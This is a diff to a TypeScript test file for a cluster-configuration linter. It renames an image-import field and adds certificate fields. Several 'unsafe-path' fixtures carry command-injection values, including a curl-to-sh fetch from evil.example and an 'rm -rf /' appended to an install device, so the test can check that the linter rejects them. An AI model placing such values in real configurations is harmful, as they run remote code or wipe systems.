@@ -81,7 +81,7 @@ const CASES: Record<FindingCode, Case[]> = {
   'profile-invalid-for-version': [{ name: 'cis-1.23 on v1.36', findings: () => lintSite(variant((s) => (s.extraConfig = 'profile: cis-1.23\n'))), expect: { severity: 'error', path: ['extraConfig', 'profile'] } }],
   'fips-incompatible': [{ name: 'FIPS with secretbox', findings: () => lintSite(variant((s) => Object.assign(s.security, { fips: true, secretsEncryptionProvider: 'secretbox' }))), expect: { severity: 'error' } }],
   'images-not-tar': [
-    { name: 'a .tar.zst archive in the images list', findings: () => lintSite(variant((s) => Object.assign(s.airGap, { importLocalImages: true, imageArchives: ['rke2-images.linux-amd64.tar', 'rke2-images.linux-amd64.tar.zst'] }))), expect: { severity: 'warning', path: ['airGap', 'imageArchives', 1] } },
+    { name: 'a .tar.zst archive in the images list', findings: () => lintSite(variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imageArchives: ['rke2-images.linux-amd64.tar', 'rke2-images.linux-amd64.tar.zst'] }))), expect: { severity: 'warning', path: ['airGap', 'imageArchives', 1] } },
     { name: 'local_images_path naming an archive', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nlocal_images_path: /opt/images/rke2.tar.gz\n`)), expect: { severity: 'warning' } },
   ],
   'duplicate-node-name': [{ name: 'two cp-1', findings: () => lintSite(variant((s) => (s.nodes[1]!.name = 'cp-1'))), expect: { severity: 'error', path: ['nodes', 1, 'name'] } }],
@@ -108,9 +108,9 @@ const CASES: Record<FindingCode, Case[]> = {
     { name: 'U+0085 in the OS user name', findings: () => lintSite(variant((s) => (s.os.user.name = 'kairos\u0085root'))), expect: { severity: 'error', path: ['os', 'user', 'name'] } },
   ],
   'unsafe-path': [
-    { name: 'a shell command in the images folder', findings: () => lintSite(variant((s) => Object.assign(s.airGap, { importLocalImages: true, imagesPath: '/opt/x; curl http://evil.example/x|sh #' }))), expect: { severity: 'error', path: ['airGap', 'imagesPath'] } },
+    { name: 'a shell command in the images folder', findings: () => lintSite(variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }))), expect: { severity: 'error', path: ['airGap', 'imagesPath'] } },
     { name: 'a command after the install device', findings: () => lintSite(variant((s) => (s.os.install.device = '/dev/sda; rm -rf / #'))), expect: { severity: 'error', path: ['os', 'install', 'device'] } },
-    { name: 'a relative registry CA file', findings: () => lintSite(variant((s) => s.airGap.registryConfigs.push({ host: 'r.local', username: '', password: '', caFile: 'ca.pem', certFile: '', keyFile: '', insecureSkipVerify: false }))), expect: { severity: 'error', path: ['airGap', 'registryConfigs', 0, 'caFile'] } },
+    { name: 'a relative registry CA file', findings: () => lintSite(variant((s) => s.airGap.registryConfigs.push({ host: 'r.local', username: '', password: '', caFile: 'ca.pem', certFile: '', keyFile: '', caPem: '', certPem: '', keyPem: '', insecureSkipVerify: false }))), expect: { severity: 'error', path: ['airGap', 'registryConfigs', 0, 'caFile'] } },
     { name: 'cluster_root_path in a cloud-config', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nproviderConfig:\n  cluster_root_path: /bin/sh /x;reboot;\n`)), expect: { severity: 'error', path: ['cluster', 'providerConfig', 'cluster_root_path'] } },
     { name: 'local_images_path in a cloud-config', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nlocal_images_path: "/opt/x && reboot"\n`)), expect: { severity: 'error', path: ['cluster', 'local_images_path'] } },
   ],
